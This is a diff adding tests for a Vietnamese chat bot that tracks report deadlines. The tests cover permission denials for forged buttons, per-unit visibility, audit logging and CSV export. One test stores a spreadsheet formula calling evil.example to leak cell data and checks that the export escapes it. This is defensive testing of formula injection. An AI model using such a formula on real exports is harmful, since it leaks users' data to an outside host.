@@ -126,7 +126,12 @@ describe('deadlines in chat', () => {
     await h.emulator.waitUntil(() => undo.plainText.includes('Đã hủy xác nhận'));
     expect((await run('deadline', 'status', String(id), '--json')).out).toContain('"reported": 0');
     const audit = await h.db.auditLog.findMany({ where: { target: { startsWith: `deadline:${id}` } }, orderBy: { id: 'asc' } });
-    expect(audit.map((a) => a.action)).toEqual(['deadline.create', 'deadline.report', 'deadline.report_undo']);
+    // Ngọc's forged «Đã nộp» and Hạnh's undo of Hùng's record are kept as refused attempts.
+    expect(audit.map((a) => a.action)).toEqual(['deadline.create', 'deadline.report', 'denied:deadlines.report', 'denied:deadlines.undo', 'deadline.report_undo']);
+    expect(audit.filter((a) => a.action.startsWith('denied:')).map((a) => [a.actorId, a.target])).toEqual([
+      [await personId(h.database, 'ngoc'), `deadline:${id}:unit:CB2-BTG`],
+      [await personId(h.database, 'hanh'), `deadline:${id}:unit:CB2-BTG`],
+    ]);
 
     // /danop with a note when only one is left for Ngọc: recorded at once.
     const ngocDone = await say('ngoc', '/danop Đã gửi qua email văn phòng');
@@ -170,10 +175,16 @@ describe('deadlines in chat', () => {
     expect(info.next!.plainText).toContain('Chi tiết hạn báo cáo');
     expect(info.next!.plainText).toContain('Chi bộ 1 (Phòng Tuyên truyền) (CB1-BTG): ⚠️ Chưa nộp, đã quá hạn');
     expect(info.next!.plainText).toContain('Nhắc hạn: 31/12, lúc 08:00');
-    expect(info.next!.plainText).toContain('Các đơn vị đã nộp: 1/3');
+    // Hạnh sees her own unit only, so the count is of the units within her reach (L3).
+    expect(info.next!.plainText).toContain('Các đơn vị thuộc phạm vi của đồng chí đã nộp: 0/1');
+    // Dũng supervises all three units: he sees the whole count and any unit's status.
+    const dungInfo = await press('dung', h.emulator.lastMessage(P.dung.tg)!, `dl:info:${id}:${await unitId(h.database, 'CB3-BTG')}`, true, true);
+    expect(dungInfo.next!.plainText).toMatch(/CB3-BTG\): ✅ Đã nộp 09:\d\d 30\/12\/2026 \(Huỳnh Thị Lan\)/);
+    expect(dungInfo.next!.plainText).toContain('Các đơn vị đã nộp: 1/3');
   });
 
   it('speaks English to a person who chose it', async () => {
+    await outboxDrained(h.db); // the morning's overdue notices first, so the reply below is /hanchot's
     const hung = await personId(h.database, 'hung');
     await h.db.person.update({ where: { id: hung }, data: { locale: 'en' } });
     const list = await say('hung', '/hanchot');
@@ -228,5 +239,70 @@ describe('deadlines in chat', () => {
     await say('ngoc', '20/01/2027');
     expect((await say('ngoc', 'CB1-BTG')).plainText).toContain('không thuộc phạm vi của đồng chí');
     expect((await say('ngoc', '/huy')).plainText).toContain('Đã hủy');
+  });
+
+  it('exports a note typed as a spreadsheet formula as text in deadline status --csv (M6)', async () => {
+    await outboxDrained(h.db);
+    const created = await run('deadline', 'add', '--title', 'Báo cáo công tác dân vận quý I', '--due', '25/01/2027',
+      '--units', 'CB1-BTG,CB1-MT', '--doc', '3080-CV/BTGTU', '--by', P.binh.phone);
+    expect(created.code, created.err).toBe(0);
+    const id = Number(created.out.split('\n')[0]);
+    const cb1 = await unitId(h.database, 'CB1-BTG');
+    const toHanh = await h.emulator.waitUntil(() => h.emulator.messagesTo(P.hanh.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
+    await h.emulator.waitUntil(() => h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I')));
+
+    // Hạnh reports and types a spreadsheet formula as the note (M6).
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Chi tiết")';
+    await press('hanh', toHanh, `dl:done:${id}:${cb1}`);
+    expect((await say('hanh', formula)).plainText).toContain('Đã lưu ghi chú');
+    const csv = await run('deadline', 'status', String(id), '--csv');
+    expect(csv.code, csv.err).toBe(0);
+    const line = csv.out.split('\n').find((l) => l.startsWith('CB1-BTG,'))!;
+    expect(line.endsWith(`,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Chi tiết"")"`)).toBe(true);
+    // The note's edit is audited with its value before and after.
+    const noteAudit = await h.db.auditLog.findFirstOrThrow({ where: { action: 'deadline.report_note', target: `deadline:${id}:unit:CB1-BTG` } });
+    expect(noteAudit.details).toEqual({ before: null, after: formula });
+  });
+
+  it('shows «Chi tiết» of a shared deadline only for the viewer\'s own units (L3)', async () => {
+    const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
+    const cb1 = await unitId(h.database, 'CB1-BTG');
+    const mt = await unitId(h.database, 'CB1-MT');
+    const toNgoc = h.emulator.messagesTo(P.ngoc.tg).find((m) => m.plainText.includes('Báo cáo công tác dân vận quý I'))!;
+    // F4: Ngọc (CB1-MT) forges «Chi tiết» for CB1-BTG: the deadline, but not Hạnh's report.
+    const forged = await press('ngoc', toNgoc, `dl:info:${id}:${cb1}`, true, true);
+    expect(forged.next!.plainText).toContain('Báo cáo công tác dân vận quý I');
+    expect(forged.next!.plainText).not.toContain('Võ Thị Hạnh');
+    expect(forged.next!.plainText).not.toContain('CB1-BTG');
+    expect(forged.next!.plainText).toContain('Các đơn vị thuộc phạm vi của đồng chí đã nộp: 0/1');
+    expect(buttonsOf(forged.next!)).toEqual([]);
+    const denied = await h.db.auditLog.findMany({ where: { action: 'denied:deadlines.info', target: `deadline:${id}:unit:${cb1}` } });
+    expect(denied.map((a) => a.actorId)).toEqual([await personId(h.database, 'ngoc')]);
+    // Her own unit's button still shows her unit.
+    const own = await press('ngoc', toNgoc, `dl:info:${id}:${mt}`);
+    expect(own.next!.plainText).toContain('Chi bộ 1 (Ban Dân chủ – Pháp luật) (CB1-MT): ⏳ Chưa nộp');
+    expect(buttonsOf(own.next!).map((b) => b.callback_data)).toEqual([`dl:done:${id}:${mt}`]);
+    // Bình created it: every unit and the whole count.
+    const binh = await press('binh', h.emulator.lastMessage(P.binh.tg)!, `dl:info:${id}:${cb1}`, true, true);
+    expect(binh.next!.plainText).toContain('CB1-BTG): ✅ Đã nộp');
+    expect(binh.next!.plainText).toContain('Võ Thị Hạnh');
+    expect(binh.next!.plainText).toContain('Các đơn vị đã nộp: 1/2');
+    // Phúc (CBCS-HLH) is not concerned at all.
+    const phuc = await press('phuc', h.emulator.lastMessage(P.phuc.tg)!, `dl:info:${id}`, true, true);
+    expect(phuc.next!.plainText).toContain('Hạn báo cáo này không còn');
+  });
+
+  it('answers forged or stale buttons with the "stale button" popup and nothing else', async () => {
+    await outboxDrained(h.db);
+    const { id } = await h.db.deadline.findFirstOrThrow({ where: { title: 'Báo cáo công tác dân vận quý I' } });
+    const msg = h.emulator.lastMessage(P.ngoc.tg)!;
+    const before = h.emulator.messagesTo(P.ngoc.tg).length;
+    for (const data of ['dl:info', 'dl:info:abc', `dl:info:${id}:x`, 'dl:done:1', 'dl:done:0:1', `dl:done:${id}:1e3`, 'dl:done:99999999999:1',
+      `dl:undo:${id}:1:2`, 'dl:nu:zzz', 'dl:nok:1', 'dl:bogus', 'dl:']) {
+      const q = h.emulator.pressButton(user('ngoc'), msg, data, { force: true });
+      expect((await h.emulator.waitForCallbackAnswer(q)).text, data).toBe('Nút này đã cũ, vui lòng gõ lại lệnh.');
+    }
+    expect((await say('ngoc', '/hanchot')).plainText).toContain('Hạn báo cáo của đơn vị đồng chí');
+    expect(h.emulator.messagesTo(P.ngoc.tg)).toHaveLength(before + 1);
   });
 });
